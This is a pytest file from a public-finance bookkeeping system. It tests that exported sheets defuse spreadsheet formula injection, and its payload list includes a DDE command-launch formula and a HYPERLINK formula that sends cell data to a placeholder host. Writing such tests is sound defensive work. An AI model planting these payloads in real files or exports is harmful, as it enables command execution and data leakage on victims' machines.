"""No cell of any sheet that a spreadsheet would run: twenty-four payloads in every column that somebody can type."""

import pytest

from operations.books.sheets import SHEETS
from operations.csv_cells import harmless
from tests.audit_templates import Audited, table_of
from tests.cluster import Database
from tests.people_builders import Office

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1)', "=IMPORTXML(A1)", "=@SUM(1)", "==1", "= 1", "=",
    "+1", "+cmd|x", "+SUM(A1)", "+", "-1", "-2+3+cmd|x", "-", "--1", "@SUM(1+1)", "@A1", "@", "\t=1+1", "\t1",
    "\r=1+1", "\n=1+1", "\n1",
]  # fmt: skip
TYPED = {
    "decree_lines": ["decree_no", "component", "maker", "approver", "fund"],
    "installments": ["component", "fund"],
    "payments": ["component", "reference", "bank_reference", "retry_of", "maker", "checker",
                 "approver", "second_approver", "releaser", "fund"],
    "ledger": ["fund", "reference"],
    "trial_balance": ["fund"],
    "bank_fees": ["document_no", "maker", "decider"],
    "purchases": ["item", "unit", "shop", "confirmer", "decider", "receipt_no", "fund"],
    "outcomes": ["recorder"],
    "people": [],
    "attendance": ["training", "recorder"],
    "duplicates": ["maker", "decider"],
    "ranks": ["deciders"],
    "objections": ["maker"],
    "list_checks": [],
    "check_rules": [],
    "check_runs": ["maker"],
    "check_hits": [],
    "confirmations": ["companion"],
    "papers": ["maker"],
    "scans": ["maker"],
    "custody": ["slip_no", "recorder"],
    "service_days": ["place", "officer"],
    "reconciliation": ["decree_no", "component", "fund"],
    "receipts": ["receipt_no", "uploaded_by"],
    "refunds": ["component", "fund"],
    "lpj_aging": ["component", "fund"],
    "companions": ["companion", "top_shop"],
    "audit_log": ["actor"],
    "published": ["figure", "unit", "source", "not_comparable", "place", "maker"],
    "audit_findings": ["report_no", "finding_no", "title", "recommendation", "escalated_to", "cited", "proofs",
                       "auditor", "answerer"],
    "justifications": ["subject", "given_by"],
    "samples": ["drawn_by"],
    "sample_rows": [],  # texts as they were made safe when the sample was drawn
}  # fmt: skip
POISON = """
UPDATE decree SET number = $1::text;
UPDATE component SET code = left($1::text, 8) || right(id::text, 12);
UPDATE user_account SET username = $1::text || right(id::text, 12);
UPDATE payment SET reference = left($1::text, 28) || right(id::text, 12);
UPDATE payment SET bank_reference = $1::text || right(id::text, 12), reason_code = $1::text;
UPDATE payment_list SET second_approved_by = approved_by;
UPDATE fund SET name = $1::text;
UPDATE plan_item SET name = $1::text, unit = left($1::text, 20);
UPDATE training SET title = $1::text;
UPDATE bank_fee SET document_no = left($1::text, 28) || right(id::text, 12);
UPDATE custody_event SET slip_no = left($1::text, 28) || right(id::text, 12);
UPDATE service_day SET place = left($1::text, 60);
UPDATE shopping_trip SET shop = $1::text, receipt_no = left($1::text, 40);
UPDATE published_figure SET name = left($1::text, 40), unit = left($1::text, 20), source = $1::text,
  not_comparable = left($1::text, 200), place = left($1::text, 120), counted_as = 'nothing';
UPDATE audit_finding SET report_no = left($1::text, 80), number = left($1::text, 20), title = $1::text,
  escalated_to = $1::text;
UPDATE audit_recommendation SET text = $1::text;
UPDATE audit_evidence SET code = left($1::text, 80);
UPDATE audit_follow_up SET proof_no = left($1::text, 60);
UPDATE purchase SET decided_by = confirmed_by
"""
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")


async def poison(database: Database, payload: str) -> None:
    """By hand, with triggers off and the four-eyes rules lifted: only the text matters here."""
    async with database.unfenced() as superuser:
        await superuser.execute("ALTER TABLE payment_list DROP CONSTRAINT IF EXISTS list_four_eyes")
        await superuser.execute("ALTER TABLE purchase DROP CONSTRAINT IF EXISTS purchase_decided_by_another")
        for statement in POISON.split(";\n"):
            given = [payload] if "$1" in statement else []
            await superuser.execute(statement, *given)


SEPARATED = {
    "Toko;=1+1": "Toko;'=1+1", "Toko, @SUM(A1)": "Toko, '@SUM(A1)", "a\t+1": "a\t'+1", "a|-2": "a|'-2",
    'x;"=1+1"': 'x;"\'=1+1"', "=1;=2;＝3": "'=1;'=2;'＝3", "\t=1": "'\t'=1",
    "Toko A, B; C-D": "Toko A, B; C-D", "1,5 + 2": "1,5 + 2", "": "",
}  # fmt: skip
FULL_WIDTH = ["＝1", "＋1", "－1", "＠A1"]


async def test_what_another_dialect_would_split_off_is_no_formula_either(database: Database) -> None:
    """The database and the program that writes files say the same."""
    owner = await database.owner()

    assert {text: await owner.fetchval("SELECT app.safe_cell($1)", text) for text in SEPARATED} == SEPARATED
    assert await owner.fetchval("SELECT app.safe_cell(NULL)") is None
    for text in [*PAYLOADS, *SEPARATED, *FULL_WIDTH, *SEPARATED.values()]:
        assert await owner.fetchval("SELECT app.safe_cell($1)", text) == harmless(text), text


@pytest.mark.figures
async def test_no_text_that_somebody_typed_is_a_formula(database: Database, office: Office, audited: Audited) -> None:
    before = {name: await table_of(name, by=office.auditor) for name in SHEETS}

    assert len(PAYLOADS) == 24
    for payload in PAYLOADS:
        await poison(database, payload)
        for name in SHEETS:
            table = await table_of(name, by=office.auditor)
            assert [cell for line in table for cell in line.values() if cell.startswith(FORMULA)] == []
            typed = {column: {line[column] for line in table} - {""} for column in TYPED[name]}
            assert all(typed.values()), "the payload reaches every column that somebody can type"
            assert all(cell.startswith("'" + payload[0]) for cells in typed.values() for cell in cells)
            assert len(table) == len(before[name])
